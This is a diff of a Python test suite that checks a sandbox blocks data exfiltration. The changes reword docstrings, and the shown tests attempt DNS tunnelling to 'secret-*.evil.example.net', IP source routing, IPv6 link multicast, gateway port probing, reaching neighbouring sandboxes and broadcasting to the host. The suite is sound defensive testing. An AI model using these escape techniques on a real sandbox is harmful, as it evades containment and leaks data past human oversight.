@@ -18,7 +18,7 @@ from tests.attacks.inside.record import EXFILTRATION, attack, held, name_of, won
 
 SERVER, OTHER, NAMES, PRIVATE, METADATA = "198.41.0.10", "198.41.0.11", "198.41.0.53", "10.50.0.10", "169.254.169.254"
 TCP, UDP, SHARED = 5998, 5999, 8080
-NO_WAY_OUT = "the sandbox's one network is internal: nothing on it leads anywhere but to its gateway"
+NO_WAY_OUT = "the sandbox's only network is internal: only its gateway is reachable"
 SEALED = "the host has no address on the sandbox's network (inhibit_ipv4)"
 NOTHING = "ENETUNREACH|EHOSTUNREACH|no answer"
 PATIENCE = 1.5
@@ -135,7 +135,7 @@ def host_by_its_addresses() -> str:
 
 @attack(EXFILTRATION, f"{SEALED}, so it answers to no address there", NOTHING, cage="allow")
 def host_on_the_link() -> str:
-    """bind a socket to the interface, so that the kernel takes every address for a neighbour's"""
+    """bind a socket to the interface, so that the kernel treats every address as on-link"""
 
     def bind(sock: socket.socket) -> None:
         sock.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")
@@ -146,13 +146,13 @@ def host_on_the_link() -> str:
 
 @attack(
     EXFILTRATION,
-    "source routes need a capability (NET_RAW); the gateway's kernel takes none and forwards nothing",
+    "source routes need a capability (NET_RAW); the gateway's kernel accepts none and forwards nothing",
     f"EPERM|{NOTHING}",
     cage="allow",
-    control="every router of today drops source routes, in the weak sandbox too",
+    control="today's routers drop source routes, in the weak sandbox too",
 )
 def source_route() -> str:
-    """tell each packet to go on through the gateway (IP source routing)"""
+    """route each packet through the gateway (IP source routing)"""
     through = _gateway()[0]
 
     def route(sock: socket.socket) -> None:
@@ -167,17 +167,17 @@ def _gateway() -> tuple[str, int]:
     return host, int(port)
 
 
-@attack(EXFILTRATION, "networks of sandboxes have no IPv6, nor has the interface", "EADDRNOTAVAIL|ENETUNREACH|ENODEV",
+@attack(EXFILTRATION, "sandbox networks and interfaces have no IPv6", "EADDRNOTAVAIL|ENETUNREACH|ENODEV",
         cage="allow", control="the engine's own networks have no IPv6 by default either")  # fmt: skip
 def by_ipv6() -> str:
-    """speak IPv6 to whoever is on the link (ff02::1)"""
+    """use IPv6 to reach anything on the link (ff02::1)"""
     with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
         sock.settimeout(PATIENCE)
         sock.sendto(b"x", ("ff02::1", UDP, 0, socket.if_nametoindex("eth0")))
         return won(sock.recvfrom(999))
 
 
-@attack(EXFILTRATION, "a gateway listens on one port, and does nothing else", "no open port", cage="allow")
+@attack(EXFILTRATION, "a gateway listens on one port only", "no open port", cage="allow")
 def other_ports_of_the_gateway() -> str:
     """look for other services on the gateway's machine"""
     host, port = _gateway()
@@ -208,17 +208,17 @@ def _ask(server: str, name: str) -> str:
     return held(f"answer {code} (no server could be asked)") if code in (2, 5) else won(f"answer {code}")
 
 
-@attack(EXFILTRATION, "dns leads nowhere: nobody is behind that resolver", f"{NOTHING}|answer 2|ECONNREFUSED",
+@attack(EXFILTRATION, "dns is disabled: that resolver forwards to nothing", f"{NOTHING}|answer 2|ECONNREFUSED",
         cage="allow")  # fmt: skip
 def names_by_the_engines_resolver() -> str:
-    """write it into a name and ask the engine's own resolver, which asks on (127.0.0.11)"""
+    """encode it in a name and query the engine's resolver, which forwards queries (127.0.0.11)"""
     return _ask("127.0.0.11", "secret-one.evil.example.net")
 
 
-@attack(EXFILTRATION, "dns leads nowhere: resolv.conf names nobody outside", f"{NOTHING}|answer 2|ECONNREFUSED",
+@attack(EXFILTRATION, "dns is disabled: resolv.conf names no outside server", f"{NOTHING}|answer 2|ECONNREFUSED",
         cage="allow")  # fmt: skip
 def names_by_resolv_conf() -> str:
-    """the same by whatever resolv.conf names"""
+    """the same through the servers in resolv.conf"""
     with open("/etc/resolv.conf") as file:
         servers = [line.split()[1] for line in file if line.startswith("nameserver")]
     said = [_ask(server, "secret-two.evil.example.net") for server in servers]
@@ -227,11 +227,11 @@ def names_by_resolv_conf() -> str:
 
 @attack(EXFILTRATION, NO_WAY_OUT, NOTHING, cage="allow")
 def names_by_a_server_outside() -> str:
-    """ask a name server outside, straight"""
+    """query an outside name server directly"""
     return _ask(NAMES, "secret-three.evil.example.net")
 
 
-@attack(EXFILTRATION, "dns leads nowhere: an allowed name is the gateway's to resolve", "gaierror", cage="allow")
+@attack(EXFILTRATION, "dns is disabled: the gateway resolves allowed names", "gaierror", cage="allow")
 def names_by_the_library() -> str:
     """let the C library resolve a name that carries something out"""
     os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
@@ -246,13 +246,13 @@ def names_by_the_library() -> str:
 # -- neighbours -----------------------------------------------------------------------------------------------------
 
 
-@attack(EXFILTRATION, "every sandbox has a network of its own", NOTHING, cage="allow")
+@attack(EXFILTRATION, "every sandbox has its own network", NOTHING, cage="allow")
 def another_sandbox() -> str:
-    """reach another sandbox, which may hold what this one has not"""
+    """reach another sandbox, which may have data that this one lacks"""
     return _tcp((os.environ["NEIGHBOUR"], SHARED))
 
 
-@attack(EXFILTRATION, "every sandbox has a network of its own, its gateway's side too", NOTHING, cage="allow")
+@attack(EXFILTRATION, "every sandbox has its own network, on its gateway's side too", NOTHING, cage="allow")
 def another_sandboxs_gateway() -> str:
     """use another sandbox's gateway, whose rules are wider"""
     return _tcp(*((address, int(os.environ["NEIGHBOUR_PORT"])) for address in os.environ["NEIGHBOUR_GATEWAY"].split()))
@@ -260,7 +260,7 @@ def another_sandboxs_gateway() -> str:
 
 @attack(EXFILTRATION, f"{SEALED}; its kernel drops what it could not answer (rp_filter)", NOTHING, cage="allow")
 def shout_to_the_host() -> str:
-    """send broadcasts and multicasts, which need no address of the host's to arrive there"""
+    """send broadcasts and multicasts, which reach the host without its address"""
 
     def shout(sock: socket.socket) -> None:
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
